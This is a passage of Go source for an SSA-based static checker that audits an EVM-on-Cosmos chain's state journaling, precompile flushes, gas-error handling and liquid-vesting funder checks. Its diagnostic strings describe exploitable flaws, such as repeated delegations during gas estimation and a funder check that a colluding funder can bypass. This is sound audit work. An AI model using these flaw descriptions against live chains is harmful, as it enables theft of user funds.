	r.Rule("R11", "PATH.uncommitted-execution-runs-on-a-branch: ApplyMessageWithConfig(commit=false) — the gas estimation that the erc20 keeper runs inside consensus (about 25 trial executions per CallEVM, out-of-gas ones included), BalanceOf and the other read calls — must leave nothing: skipping the final StateDB.Commit is not enough, because stateful precompiles flush the StateDB and write straight into the context. The context the StateDB and the EVM are built on derives from CacheContext() on the commit == false edge")
	am, ok := P.FnOK("(*x/evm/keeper.Keeper).ApplyMessageWithConfig")
	if !ok {
		r.Bad("R11", "anchor/ApplyMessageWithConfig", "", "not found")
		return
	}
	var commitP *ssa.Parameter
	for _, p := range am.Params {
		if p.Name() == "commit" {
			commitP = p
		}
	}
	okBranch := false
	eachCall(am, func(ci CallInfo) {
		if ci.Name != "New" || !pathHasSuffix(ci.PkgPath, "x/evm/statedb") {
			return
		}
		ctxArg := ci.Instr.Common().Args[0]
		sl := backSlice(ctxArg)
		if !sl.HasCall(func(g CallInfo) bool { return g.Name == "CacheContext" }) {
			return
		}
		// the branch is taken on a test of the commit parameter
		for _, b := range am.Blocks {
			if ifi, isIf := lastIf(b); isIf && commitP != nil && backSlice(ifi.Cond).Has(commitP) {
				for _, sc := range b.Succs {
					for _, in := range sc.Instrs {
						if c, isC := in.(*ssa.Call); isC && callInfo(c).Name == "CacheContext" {
							okBranch = true
						}
					}
				}
			}
		}
	})
	r.Check(okBranch, "R11", fnID(am)+"#uncommitted-runs-on-a-branch", P.Pos(fnPos(am)), "commit == false ⇒ the StateDB is built on a CacheContext() branch",
		"an execution with commit=false runs on the caller's own context: a token contract that calls a stateful precompile (e.g. staking.delegate in its transfer()) has that effect applied once per trial execution of the internal gas estimation — one MsgConvertERC20 delegated 25000 instead of 1000 in the demonstration")
}

// oogIsFailure (C05 R6).
func oogIsFailure(r *Run) {
	P := r.P
	n := 0
	for _, m := range wiredPrecompiles(r) {
		if !m.Stateful || m.Run == nil {
			continue
		}
		run := m.Run
		n++
		inst := fnID(run) + "#gas-error-reaches-named-result"
		var ptr ssa.Value
		deferred := false
		eachInstr(run, func(in ssa.Instruction) {
			c, ok := in.(*ssa.Call)
			if ok && callInfo(c).Name == "HandleGasError" {
				a := c.Call.Args
				ptr = a[len(a)-1]
				// the returned closure is deferred
				if c.Referrers() != nil {
					for _, ref := range *c.Referrers() {
						if d, ok := ref.(*ssa.Defer); ok && d.Call.Value == ssa.Value(c) {
							deferred = true
						}
					}
				}
			}
		})
		if ptr == nil || !deferred {
			r.Bad("R6", inst, P.Pos(fnPos(run)), "Run does not defer HandleGasError: an SDK out-of-gas panic inside the precompile is not turned into a failed frame")
			continue
		}
		// the recover block returns the named results: its error operand must be a load of the same variable
		okNamed := false
		if run.Recover != nil {
			for _, in := range run.Recover.Instrs {
				if ret, ok := in.(*ssa.Return); ok && len(ret.Results) > 0 {
					last := ret.Results[len(ret.Results)-1]
					if u, ok := last.(*ssa.UnOp); ok && u.Op == token.MUL && u.X == stripValue(ptr) {
						okNamed = true
					}
				}
			}
		}
		r.Check(okNamed, "R6", inst, P.Pos(fnPos(run)), "HandleGasError writes Run's named error result, which the recover path returns",
			"the pointer handed to HandleGasError is not Run's named error result: after a recovered out-of-gas panic Run returns (nil, nil) — the EVM sees a successful call, charges no gas for it, and whatever the handler had already written on the Cosmos side (escrow, packet, delegation) persists")
	}
	r.Floor("R6", "stateful precompile Run methods", n, 4)
}

func journalDiscipline(r *Run, entries []*types.Named) {
	P := r.P
	isRevert := func(fn *ssa.Function) bool {
		if fn.Name() != "Revert" || fn.Signature.Recv() == nil {
			return false
		}
		rn := namedName(fn.Signature.Recv().Type())
		for _, e := range entries {
			if e.Obj().Name() == rn {
				return true
			}
		}
		return rn == "journal"
	}
	baseAppend := isCallMatching(func(ci CallInfo) bool { return ci.Name == "append" && ci.Recv == "journal" })
	alwaysAppends := map[*ssa.Function]bool{}
	for _, fn := range P.Funcs {
		if fnPkgPath(fn) != statedbPkg || fn.Synthetic != "" {
			continue
		}
		has := false
		eachInstr(fn, func(in ssa.Instruction) {
			if baseAppend(in) {
				has = true
			}
		})
		if has && (PathQuery{Fn: fn, Block: baseAppend, Target: func(x ssa.Instruction) bool { _, ok := x.(*ssa.Return); return ok }}).Search() == nil {
			alwaysAppends[fn] = true
		}
	}
	// an append event: journal.append itself, or a call to a package function all of whose paths append
	isAppend := func(in ssa.Instruction) bool {
		if baseAppend(in) {
			return true
		}
		if c, ok := in.(ssa.CallInstruction); ok {
			if sc := c.Common().StaticCallee(); sc != nil && alwaysAppends[sc] {
				return true
			}
		}
		return false
	}
	// committed-state read: a Get* call on the statedb.Keeper interface
	isKeeperRead := func(ci CallInfo) bool {
		return ci.Invoke && ci.Recv == "Keeper" && pathHasSuffix(ci.PkgPath, "x/evm/statedb") && strings.HasPrefix(ci.Name, "Get")
	}
	cacheFill := func(in ssa.Instruction) bool {
		switch x := in.(type) {
		case *ssa.Store:
			return backSlice(x.Val).HasCall(isKeeperRead)
		case ssa.CallInstruction:
			for _, a := range x.Common().Args[1:] {
				if backSlice(a).HasCall(isKeeperRead) {
					return true
				}
			}
		}
		return false
	}
	var fns []*ssa.Function
	for _, fn := range P.Funcs {
		if fnPkgPath(fn) == statedbPkg && fn.Synthetic == "" && !isTestSupport(P, fn) {
			fns = append(fns, fn)
		}
	}
	callers := staticCallersIn(P, func(p string) bool { return p == statedbPkg })
	// classify functions
	type verdict struct {
		ok  bool
		why string
	}
	memo := map[*ssa.Function]*verdict{}
	var judgeCall func(c ssa.CallInstruction, depth int) (bool, string)
	// a write (or a call to a raw setter) at instruction `in` inside fn is fine if ...
	judgeSite := func(fn *ssa.Function, in ssa.Instruction) (bool, bool) { // (ok, needsCallers)
		if isRevert(fn) || (statedbConstructors[fn.Name()]) {
			return true, false
		}
		if cacheFill(in) {
			// lazily caches a value read from committed state (keeper): not a state change, nothing to revert
			return true, false
		}
		if w := Precedes(fn, isAppend, func(x ssa.Instruction) bool { return x == in }, nil); w == nil {
			return true, false
		}
		// append follows, conditioned on the result of the write call
		if c, ok := in.(ssa.CallInstruction); ok && c.Value() != nil {
			var del []Edge
			for _, b := range fn.Blocks {
				if ifi, ok := lastIf(b); ok && backSlice(ifi.Cond).Has(c.Value()) {
					del = append(del, Edge{b, 1})
				}
			}
			if len(del) > 0 {
				if w := (PathQuery{Fn: fn, Start: in, Block: isAppend, Target: func(x ssa.Instruction) bool { _, ok := x.(*ssa.Return); return ok }, DelEdge: edgeSet(del)}).Search(); w == nil {
					return true, false
				}
			}
		}
		return false, true
	}
	var judgeFn func(fn *ssa.Function, depth int) *verdict
	judgeFn = func(fn *ssa.Function, depth int) *verdict {
		if v, ok := memo[fn]; ok {
			return v
		}
		v := &verdict{ok: true}
		memo[fn] = v
		cs := callers[fn]
		if len(cs) == 0 {
			v.ok, v.why = false, "raw setter "+fnID(fn)+" has no journaled caller inside the package (it is exported API or dead)"
			if !fn.Object().Exported() {
				v.ok, v.why = true, "unexported and never called"
			}
			return v
		}
		for _, c := range cs {
			ok, why := judgeCall(c, depth)
			if !ok {
				v.ok, v.why = false, why
				return v
			}
		}
		return v
	}
	judgeCall = func(c ssa.CallInstruction, depth int) (bool, string) {
		cf := c.Parent()
		ok, needs := judgeSite(cf, c)
		if ok {
			return true, ""
		}
		if needs && depth > 0 {
			v := judgeFn(outermost(cf), depth-1)
			if v.ok {
				return true, ""
			}
			return false, v.why
		}
		return false, "call at " + P.Pos(instrPos(c)) + " in " + fnID(cf) + " is not preceded by journal.append"
	}
	nWrites := 0
	for _, fn := range fns {
		if fn.Name() == "Commit" && namedName(fn.Signature.Recv().Type()) == "StateDB" {
			// Commit flushes to the keeper; it does not mutate revertible state (transientStorage is a cache)
		}
		idx := 0
		eachInstr(fn, func(in ssa.Instruction) {
			label, ok := revertibleWrite(in)
			if !ok {
				return
			}
			nWrites++
			idx++
			inst := fmt.Sprintf("%s#write-%s-%d", fnID(fn), label, idx)
			where := P.Pos(instrPos(in))
			okSite, needs := judgeSite(fn, in)
			if okSite {
				r.OK("R4", inst, where, "journaled (constructor / Revert / append in the same function)")
				return
			}
			if needs {
				v := judgeFn(fn, 3)
				r.Check(v.ok, "R4", inst, where, "raw setter: every caller is a Revert method or journals first",
					"revertible state is written without a journal entry: "+v.why+" — RevertToSnapshot cannot undo this change when the frame reverts")
			}
		})
	}
	r.Floor("R4", "writes to revertible StateDB state", nWrites, 20)
	// dirty/origin/transient storage entries are never removed: Commit may already have flushed a dirty slot
	// in the middle of the transaction (precompiles flush), so dropping it later leaves the flushed value in the store
	nDel := 0
	for _, fn := range fns {
		eachInstr(fn, func(in ssa.Instruction) {
			c, ok := in.(ssa.CallInstruction)
			if !ok || callInfo(c).Builtin != "delete" {
				return
			}
			nDel++
			sl := backSlice(c.Common().Args[0])
			for _, f := range []string{"dirtyStorage", "originStorage", "transientStorage"} {
				if sl.HasField("stateObject", f) {
					r.Bad("R4", fnID(fn)+"#delete-"+f, P.Pos(instrPos(in)), "an entry is removed from stateObject."+f+": slots flushed by a mid-transaction Commit (every precompile call flushes) could no longer be corrected by the final Commit, so a write made in a reverted frame would survive")
				}
			}
		})
	}
	r.Count("R4 delete() calls in x/evm/statedb", nDel)
	// balances are values: no in-place big.Int arithmetic on a number that revertible state points to. Journal entries
	// and replaced objects (resetObjectChange.prev) keep pointers to the same big.Int, so x.Add(x, y) on a stored
	// balance silently edits what a Revert is going to restore.
	{
		nMut := 0
		mutators := map[string]bool{"Add": true, "Sub": true, "Mul": true, "Quo": true, "Div": true, "Mod": true, "Neg": true, "Set": true, "SetUint64": true, "SetInt64": true, "SetBytes": true, "SetString": true, "Lsh": true, "Rsh": true, "Exp": true, "Abs": true, "And": true, "Or": true, "Xor": true, "Not": true}
		for _, fn := range fns {
			eachCall(fn, func(ci CallInfo) {
				if ci.PkgPath != "math/big" || ci.Recv != "Int" || !mutators[ci.Name] {
					return
				}
				recv := callArgs(ci.Instr)[0]
				// receiver loaded from a field of revertible state (stateObject.account.Balance, …)
				stored := false
				if u, ok := stripValue(recv).(*ssa.UnOp); ok && u.Op == token.MUL {
					for a := u.X; a != nil; {
						if sn, f, ok := fieldOfAddr(a); ok && ((sn == "stateObject" && revertibleObjFields[f]) || sn == "Account") {
							stored = true
						}
						if fa, ok := a.(*ssa.FieldAddr); ok {
							a = fa.X
						} else {
							a = nil
						}
					}
				}
				if stored {
					nMut++
					r.Bad("R4", fmt.Sprintf("%s#in-place-%s-on-stored-number", fnID(fn), ci.Name), P.Pos(instrPos(ci.Instr)), "big.Int."+ci.Name+" is applied in place to a number that revertible state points to: journal entries and replaced objects share that pointer, so the value a Revert restores (or a saved previous object holds) changes with it")
				}
			})
		}
		if nMut == 0 {
			r.OK("R4", "x/evm/statedb#no-in-place-arithmetic-on-stored-numbers", "", "no mutating big.Int method has a receiver loaded from revertible state")
		}
	}
	// entry-covers-writes: what a function writes after journal.append(E{…}) must be what E.Revert restores
	{
		fine := func(in ssa.Instruction) (string, bool) {
			label, ok := revertibleWrite(in)
			if !ok {
				return "", false
			}
			if strings.HasPrefix(label, "accessList.") {
				return "accessList", true
			}
			if label == "stateObject.account" {
				var addr ssa.Value
				switch x := in.(type) {
				case *ssa.Store:
					addr = x.Addr
				}
				if addr != nil {
					if sn, f, ok := fieldOfAddr(addr); ok && sn == "Account" {
						return label + "." + f, true
					}
				}
			}
			return label, true
		}
		hasAppend := func(fn *ssa.Function) bool {
			h := false
			eachInstr(fn, func(in ssa.Instruction) {
				if baseAppend(in) {
					h = true
				}
			})
			return h
		}
		// readers (get*/Get*) only fill the object cache from committed state: not a state change
		isReader := func(fn *ssa.Function) bool {
			n := fn.Name()
			return strings.HasPrefix(n, "get") || strings.HasPrefix(n, "Get")
		}
		// labels written by fn itself or through non-journaling helpers of the package
		lmemo := map[*ssa.Function]map[string]bool{}
		var labelsOf func(fn *ssa.Function, depth int) map[string]bool
		labelsOf = func(fn *ssa.Function, depth int) map[string]bool {
			if m, ok := lmemo[fn]; ok {
				return m
			}
			m := map[string]bool{}
			lmemo[fn] = m
			eachInstr(fn, func(in ssa.Instruction) {
				if l, ok := fine(in); ok {
					m[l] = true
				}
				if c, ok := in.(ssa.CallInstruction); ok && depth > 0 {
					if sc := c.Common().StaticCallee(); sc != nil && sc.Blocks != nil && fnPkgPath(sc) == statedbPkg && !hasAppend(sc) && !alwaysAppends[sc] && !statedbConstructors[sc.Name()] && !isReader(sc) {
						for l := range labelsOf(sc, depth-1) {
							m[l] = true
						}
					}
				}
			})
			return m
		}
		revertLabels := map[string]map[string]bool{}
		for _, e := range entries {
			n := e.Obj().Name()
			for _, pre := range []string{"(x/evm/statedb." + n + ").Revert", "(*x/evm/statedb." + n + ").Revert"} {
				if f, ok := P.FnOK(pre); ok && f.Synthetic == "" {
					revertLabels[n] = labelsOf(f, 3)
				}
			}
		}
		covers := func(rl map[string]bool, l string) bool {
			if rl[l] {
				return true
			}
			// a Revert that replaces the whole account / object restores every part of it
			if strings.HasPrefix(l, "stateObject.account.") && rl["stateObject.account"] {
				return true
			}
			if strings.HasPrefix(l, "stateObject.") && rl["StateDB.stateObjects"] {
				return true
			}
			return false
		}
		nApp := 0
		for _, fn := range fns {
			if isRevert(fn) || statedbConstructors[fn.Name()] {
				continue
			}
			eachInstr(fn, func(in ssa.Instruction) {
				if !baseAppend(in) {
					return
				}
				c := in.(ssa.CallInstruction)
				args := callArgs(c)
				ename := ""
				for _, a := range args {
					if mi, ok := a.(*ssa.MakeInterface); ok {
						ename = namedName(mi.X.Type())
					}
				}
				rl, known := revertLabels[ename]
				if ename == "" || !known {
					return
				}
				nApp++
				// writes after the append, in this function (directly or through non-journaling helpers)
				after := map[string]bool{}
				for _, b := range fn.Blocks {
					for _, x := range b.Instrs {
						if x == in || !instrMayPrecede(in, x) {
							continue
						}
						if l, ok := fine(x); ok {
							after[l] = true
						}
						if cc, ok := x.(ssa.CallInstruction); ok {
							if sc := cc.Common().StaticCallee(); sc != nil && sc.Blocks != nil && fnPkgPath(sc) == statedbPkg && !hasAppend(sc) && !alwaysAppends[sc] && !statedbConstructors[sc.Name()] && !isReader(sc) {
								for l := range labelsOf(sc, 3) {
									after[l] = true
								}
							}
						}
					}
				}
				var missing []string
				for l := range after {
					if !covers(rl, l) {
						missing = append(missing, l)
					}
				}
				sort.Strings(missing)
				r.Check(len(missing) == 0, "R4", fmt.Sprintf("%s#entry-covers-writes/%s", fnID(fn), ename), P.Pos(instrPos(in)), "everything written after journal.append("+ename+") is restored by "+ename+".Revert",
					fmt.Sprintf("after journalling %s the function writes %v, which %s.Revert does not restore: RevertToSnapshot leaves that part of the change in place when the frame reverts (a balance zeroed by a reverted SELFDESTRUCT stays zero and the final Commit burns the account's coins)", ename, missing, ename))
			})
		}
		r.Floor("R4", "journal.append sites with a known entry kind", nApp, 10)
	}
	// each entry's Revert must read its own recorded fields (restores from the recorded previous value)
	nE := 0
	names := []string{}
	for _, e := range entries {
		names = append(names, e.Obj().Name())
	}
	sort.Strings(names)
	for _, n := range names {
		var fn *ssa.Function
		for _, pre := range []string{"(x/evm/statedb." + n + ").Revert", "(*x/evm/statedb." + n + ").Revert"} {
			if f, ok := P.FnOK(pre); ok && f.Synthetic == "" {
				fn = f
			}
		}
		if fn == nil {
			continue
		}
		nE++
		st, _ := P.LookupType(statedbPkg, n).Type().Underlying().(*types.Struct)
		if st == nil || st.NumFields() == 0 {
			// entries without fields (addLogChange) must still mutate something
			mut := false
			eachInstr(fn, func(in ssa.Instruction) {
				if _, ok := revertibleWrite(in); ok {
					mut = true
				}
				if c, ok := in.(ssa.CallInstruction); ok && c.Common().StaticCallee() != nil && fnPkgPath(c.Common().StaticCallee()) == statedbPkg {
					mut = true
				}
			})
			r.Check(mut, "R4", "(x/evm/statedb."+n+").Revert#undoes", P.Pos(fnPos(fn)), "Revert mutates state", "Revert of a field-less journal entry does nothing")
			continue
		}
		used := map[string]bool{}
		eachInstr(fn, func(in ssa.Instruction) {
			if sn, f, ok := fieldOfAddr(valueOf(in)); ok && sn == n {
				used[f] = true
			}
			if sn, f, ok := fieldOfValue(valueOf(in)); ok && sn == n {
				used[f] = true
			}
		})
		var unused []string
		for i := 0; i < st.NumFields(); i++ {
			if !used[st.Field(i).Name()] {
				unused = append(unused, st.Field(i).Name())
			}
		}
		r.Check(len(unused) == 0, "R4", "(x/evm/statedb."+n+").Revert#uses-recorded-fields", P.Pos(fnPos(fn)), "Revert reads every recorded field",
			fmt.Sprintf("Revert ignores the recorded field(s) %v: the previous value is not restored", unused))
		// a Revert restores what was recorded: it never writes a constant into revertible state (an entry can be
		// journaled when the state already had the value it sets — a second SELFDESTRUCT, a re-added access-list
		// entry — and must then restore that value, not a fixed "initial" one)
		constWrite := ""
		eachInstr(fn, func(in ssa.Instruction) {
			if st, ok := in.(*ssa.Store); ok {
				if _, isRev := revertibleWrite(in); isRev {
					if _, isConst := st.Val.(*ssa.Const); isConst {
						constWrite = P.Pos(instrPos(in))
					}
				}
			}
		})
		r.Check(constWrite == "", "R4", "(x/evm/statedb."+n+").Revert#restores-recorded-value", P.Pos(fnPos(fn)), "no constant is written into revertible state",
			"Revert writes a constant into revertible state at "+constWrite+" instead of the value recorded when the entry was journaled: if the state already had the new value before the journaled operation, reverting the later frame also undoes the earlier, successful one")
	}
	r.Floor("R4", "journal entries with a Revert body", nE, 11)

	// the log list is cut back to the length it had when the entry was journalled
	isLogsLoad := func(v ssa.Value) bool {
		u, ok := stripValue(v).(*ssa.UnOp)
		if !ok || u.Op != token.MUL {
			return false
		}
		sn, f, ok := fieldOfAddr(u.X)
		return ok && sn == "StateDB" && f == "logs"
	}
	isLenLogs := func(v ssa.Value) bool {
		c, ok := stripValue(v).(*ssa.Call)
		if !ok {
			return false
		}
		b, ok := c.Call.Value.(*ssa.Builtin)
		return ok && b.Name() == "len" && len(c.Call.Args) == 1 && isLogsLoad(c.Call.Args[0])
	}
	nL := 0
	for _, n := range names {
		for _, pre := range []string{"(x/evm/statedb." + n + ").Revert", "(*x/evm/statedb." + n + ").Revert"} {
			fn, ok := P.FnOK(pre)
			if !ok || fn.Synthetic != "" {
				continue
			}
			eachInstr(fn, func(in ssa.Instruction) {
				st, ok := in.(*ssa.Store)
				if !ok {
					return
				}
				if l, _ := revertibleWrite(in); l != "StateDB.logs" {
					return
				}
				nL++
				oi := "(x/evm/statedb." + n + ").Revert#log-list-cut-to-recorded-length"
				sl, ok := stripValue(st.Val).(*ssa.Slice)
				if !ok || !isLogsLoad(sl.X) || sl.Low != nil || sl.High == nil {
					r.Bad("R4", oi, P.Pos(instrPos(in)), "Revert of a log entry writes something other than a prefix of the current log list")
					return
				}
				h := stripValue(sl.High)
				okH, how := false, ""
				if b, ok := h.(*ssa.BinOp); ok && b.Op == token.SUB && isLenLogs(b.X) {
					if c, ok := b.Y.(*ssa.Const); ok && c.Value != nil && c.Value.ExactString() == "1" {
						okH, how = true, "len(logs)-1"
					}
				}
				if !okH {
					// a recorded position: every place that builds the entry must record len(s.logs) as it is before the append
					fname := ""
					if sn, f, ok := fieldOfValue(h); ok && sn == n {
						fname = f
					} else if u, ok := h.(*ssa.UnOp); ok && u.Op == token.MUL {
						if sn, f, ok := fieldOfAddr(u.X); ok && sn == n {
							fname = f
						}
					}
					if fname != "" {
						okH, how = true, "recorded field "+fname+" = len(logs) at every journalling site"
						nRec := 0
						for _, g := range fns {
							eachInstr(g, func(x ssa.Instruction) {
								s2, ok := x.(*ssa.Store)
								if !ok {
									return
								}
								if sn, f, ok := fieldOfAddr(s2.Addr); ok && sn == n && f == fname {
									nRec++
									if !isLenLogs(s2.Val) {
										okH = false
										how = "the position recorded at " + P.Pos(instrPos(x)) + " is not len(s.logs)"
									}
								}
							})
						}
						if nRec == 0 {
							okH, how = false, "no site records the field "+fname
						}
					} else {
						how = "the bound is neither len(logs)-1 nor a recorded field"
					}
				}
				r.Check(okH, "R4", oi, P.Pos(instrPos(in)), "log list cut to its length before the journalled AddLog ("+how+")",
					"reverting an AddLog cuts the transaction's log list to a bound that is not its length before that AddLog ("+how+"): a log emitted by a reverted frame stays in the receipt, bloom and the ERC20 conversion hooks — or logs of successful frames disappear")
			})
		}
	}
	r.Floor("R4", "Revert stores into the log list", nL, 1)
}

func valueOf(in ssa.Instruction) ssa.Value {
	v, _ := in.(ssa.Value)
	return v
}

// flushIsAllOrNothing (C05 R12): a StateDB.Commit that fails half way leaves nothing behind.
func flushIsAllOrNothing(r *Run) {
	P := r.P
	r.Rule("R12", "PATH.flush-is-all-or-nothing: StateDB.Commit also runs in the middle of a transaction (the flush every stateful precompile starts with), where its error only fails the current call frame — and it can fail after it has written some accounts (SetBalance refuses a blocked recipient such as a precompile address that was sent value). Every keeper write in Commit (DeleteAccount, SetCode, SetAccount, SetState) therefore receives the context of a CacheContext() branch, the branch's write function is called on every success exit and on no path to a failure exit, and the flushed-slot record (transientStorage) is updated only after it — otherwise a failed precompile frame leaves accounts, balances or storage of a half-written flush in the store")
	cm, ok := commitBodyFn(P)
	if !ok {
		r.Bad("R12", "anchor/StateDB.Commit", "", "not found")
		return
	}
	inst := commitInstID + "#flush-is-all-or-nothing"
	var cache *ssa.Call
	eachInstr(cm, func(in ssa.Instruction) {
		if c, ok := in.(*ssa.Call); ok && callInfo(c).Name == "CacheContext" {
			cache = c
		}
	})
	if cache == nil {
		r.Bad("R12", inst, P.Pos(fnPos(cm)), "StateDB.Commit writes the dirty objects straight into the transaction's context: when a later object fails (a blocked recipient) the accounts written before it stay, although the precompile call that triggered the flush fails and its frame is reverted")
		return
	}
	fromCache := func(v ssa.Value, idx int) bool {
		ok := false
		backSlice(v).Any(func(x ssa.Value) bool {
			if ex, isE := x.(*ssa.Extract); isE && ex.Tuple == ssa.Value(cache) && ex.Index == idx {
				ok = true
			}
			return ok
		})
		return ok
	}
	bad, nW := "", 0
	eachCall(cm, func(ci CallInfo) {
		if !ci.Invoke || !(ci.Name == "DeleteAccount" || ci.Name == "SetCode" || ci.Name == "SetAccount" || ci.Name == "SetState") {
			return
		}
		nW++
		okCtx := false
		for _, a := range ci.Instr.Common().Args {
			if namedName(a.Type()) == "Context" && fromCache(a, 0) {
				okCtx = true
			}
		}
		if !okCtx && bad == "" {
			bad = ci.Name + " is not given the branch context"
		}
	})
	isWrite := func(in ssa.Instruction) bool {
		c, ok := in.(ssa.CallInstruction)
		if !ok || c.Common().IsInvoke() || c.Common().StaticCallee() != nil {
			return false
		}
		return fromCache(c.Common().Value, 1)
	}
	w1 := PathQuery{Fn: cm, Start: cache, Block: isWrite, Target: func(x ssa.Instruction) bool {
		ret, ok := x.(*ssa.Return)
		return ok && classifyExit(ret) == ExitSuccess
	}}.Search()
	var w2, w3 []ssa.Instruction
	eachInstr(cm, func(in ssa.Instruction) {
		if isWrite(in) && w2 == nil {
			w2 = PathQuery{Fn: cm, Start: in, Target: func(x ssa.Instruction) bool {
				ret, ok := x.(*ssa.Return)
				return ok && classifyExit(ret) == ExitFailure
			}}.Search()
		}
	})
	// the flushed-slot record only after the branch was written
	w3 = PathQuery{Fn: cm, Block: isWrite, Target: func(x ssa.Instruction) bool {
		mu, ok := x.(*ssa.MapUpdate)
		if !ok {
			return false
		}
		_, f, ok := fieldOfAddr(addrOfLoad(mu.Map))
		return ok && f == "transientStorage"
	}}.Search()
	r.Check(bad == "" && nW >= 4 && w1 == nil && w2 == nil && w3 == nil, "R12", inst, P.Pos(fnPos(cm)), "keeper writes go to a CacheContext branch written on every success exit, on no failure path, before the flushed-slot record",
		"StateDB.Commit is not all-or-nothing ("+bad+"): a flush that fails half way — inside a precompile call frame that the calling contract tolerates — leaves part of the dirty state (an auth account for the precompile address, a sender's debit without the credit, storage) in the store, or records slots as flushed that were never written", P.witness(append(append(w1, w2...), w3...))...)
}

// flushKeepsSelfDestructed (C05 R13): the mid-transaction flush does not carry out SELFDESTRUCT.
func flushKeepsSelfDestructed(r *Run) {
	P := r.P
	r.Rule("R13", "PATH.selfdestruct-takes-effect-at-the-end: SELFDESTRUCT is carried out when the transaction's state is committed; until then the frame that executed it can still be reverted, and the journal restores the state object — not an auth account, a code hash and a storage that were deleted from the store. The flush a stateful precompile starts with must therefore not delete self-destructed accounts: every precompile Run flushes with StateDB.Flush (never Commit), Flush reaches the keeper's DeleteAccount on no path (in the shared write-back loop the call is reachable only over the true edge of the 'final' flag, which Flush passes as false), and Commit passes it as true")
	body, ok := commitBodyFn(P)
	if !ok {
		r.Bad("R13", "anchor/StateDB.Commit", "", "not found")
		return
	}
	n := 0
	for _, fn := range P.Funcs {
		if fn.Name() != "Run" || fn.Signature.Recv() == nil || !strings.Contains(fnPkgPath(fn), "/precompiles/") || fn.Synthetic != "" || isTestSupport(P, fn) {
			continue
		}
		eachCall(fn, func(ci CallInfo) {
			if !isFlushCall(ci) {
				return
			}
			n++
			r.Check(ci.Name == "Flush", "R13", fnID(fn)+"#flushes-without-deleting", P.Pos(instrPos(ci.Instr)), "StateDB.Flush",
				"the precompile flushes the StateDB with Commit, which carries out pending SELFDESTRUCTs: a contract that self-destructed in a frame that later reverts is gone from the store for good (account, code hash, every storage slot — also slots the successful outer frame wrote)")
		})
	}
	r.Floor("R13", "mid-transaction flushes in precompile Run methods", n, 4)
	// the shared loop: DeleteAccount only under the flag
	var flag *ssa.Parameter
	for _, p := range body.Params {
		if b, ok := p.Type().Underlying().(*types.Basic); ok && b.Kind() == types.Bool {
			flag = p
		}
	}
	isDel := isCallMatching(func(ci CallInfo) bool { return ci.Name == "DeleteAccount" })
	if flag == nil {
		r.Bad("R13", commitInstID+"#delete-only-when-final", P.Pos(fnPos(body)), "the write-back loop has no 'final' flag: every flush deletes self-destructed accounts")
	} else {
		pass, _ := guardPassEdges(body, func(cond ssa.Value) (bool, bool) {
			return true, stripValue(cond) == ssa.Value(flag)
		})
		// `obj.suicided && final` short-circuits: the flag's own If may be the second one
		w := PathQuery{Fn: body, Target: isDel, DelEdge: edgeSet(pass)}.Search()
		r.Check(w == nil && len(pass) > 0, "R13", commitInstID+"#delete-only-when-final", P.Pos(fnPos(body)), "DeleteAccount reachable only over the true edge of the flag",
			"the write-back loop can delete a self-destructed account although the flush is not the final one", P.witness(w)...)
	}
	for name, want := range map[string]bool{"Flush": false, "Commit": true} {
		fn, ok := P.FnOK("(*x/evm/statedb.StateDB)." + name)
		if !ok {
			r.Bad("R13", "anchor/StateDB."+name, "", "not found")
			continue
		}
		okArg, nC := true, 0
		eachCall(fn, func(ci CallInfo) {
			if ci.Static != body {
				return
			}
			nC++
			for _, a := range ci.Instr.Common().Args {
				if c, isC := a.(*ssa.Const); isC {
					if b, isB := c.Type().Underlying().(*types.Basic); isB && b.Kind() == types.Bool && constBool(c) != want {
						okArg = false
					}
				}
			}
		})
		r.Check(okArg && nC == 1, "R13", fnID(fn)+"#final-flag", P.Pos(fnPos(fn)), fmt.Sprintf("calls the write-back loop with final = %v", want), fmt.Sprintf("StateDB.%s does not call the shared write-back loop with final = %v", name, want))
	}
}
