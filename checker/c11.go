package main

import (
	"fmt"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID:  "C11",
		Run: runC11,
		Explanation: "Static analysis of liquid vesting: (R1) Liquidate stores the reduced account, escrows the message amount in the module account, creates the liquid denom with the split-off periods, mints exactly the message amount of the liquid denom and pays it out, only for fully vested accounts with enough locked balance; Redeem escrows and burns the message amount, updates or deletes the denom schedule, releases the same amount of the original denom and re-applies the split-off schedule whenever periods are still upcoming; " +
			"(R2) only these two functions mint/burn for the module account and the denom store is written only by the keeper's own functions, genesis and upgrade handlers. The per-period exactness of the split and 'nothing unlocks earlier' are schedule arithmetic and are not decided.",
		Assumptions: []string{"bank keeper moves exactly the given coins", "vesting keeper ApplyVestingSchedule applies the given periods"},
		Declined:    []string{"per-period exactness of SubtractAmountFromPeriods (left + moved = original, no negative part)", "the redeemed schedule releases nothing earlier than the original"},
	})
}

func runC11(r *Run) {
	defer importProcessLocal(r, "RM", "x/liquidvesting")
	defer func() {
		r.Rule("R7", "ERR.failed-steps-fail-the-message: Liquidate and Redeem burn, escrow and re-schedule in several steps and rely on the transaction failing as a whole when one step fails; a non-nil error of any keeper or Haqq call in them (bank moves, ApplyVestingSchedule, denom updates, ERC20 conversion) reaches only failure exits — never logged, matched against a sentinel and tolerated")
		var fns []*ssa.Function
		for _, n := range []string{"Liquidate", "Redeem"} {
			if f, ok := r.P.FnOK("(x/liquidvesting/keeper.Keeper)." + n); ok {
				fns = append(fns, f)
			}
		}
		r.Rule("R8", "FLOW.redeem-grant-comes-from-the-module: a clawback vesting account keeps one aggregate lock-up and one aggregate vesting schedule and lets its owner spend min(unlocked, vested); that is safe only because nobody but the account's funder can add grants. Redeem merges the redeemed coins' remaining lock-up into the receiver as a grant: the funder it names to ApplyVestingSchedule derives from the liquidvesting module address alone — not from the receiver's own FunderAddress, which makes the vesting keeper's 'grants only from the funder' check pass for anybody: redeemed coins (vested, still locked) merged next to an unlocked-but-unvested grant of a colluding funder are spendable at once")
		if rd, ok := r.P.FnOK("(x/liquidvesting/keeper.Keeper).Redeem"); ok {
			nA := 0
			eachCall(rd, func(ci CallInfo) {
				if ci.Name != "ApplyVestingSchedule" {
					return
				}
				nA++
				sig := ci.Instr.Common().Signature()
				var funder ssa.Value
				off := 0
				if !ci.Instr.Common().IsInvoke() && sig.Recv() != nil {
					off = 1
				}
				for i := 0; i < sig.Params().Len(); i++ {
					if sig.Params().At(i).Name() == "funder" {
						funder = ci.Instr.Common().Args[i+off]
					}
				}
				if funder == nil {
					r.Bad("R8", fnID(rd)+"#grant-funder-is-the-module", r.P.Pos(instrPos(ci.Instr)), "ApplyVestingSchedule has no funder parameter any more")
					return
				}
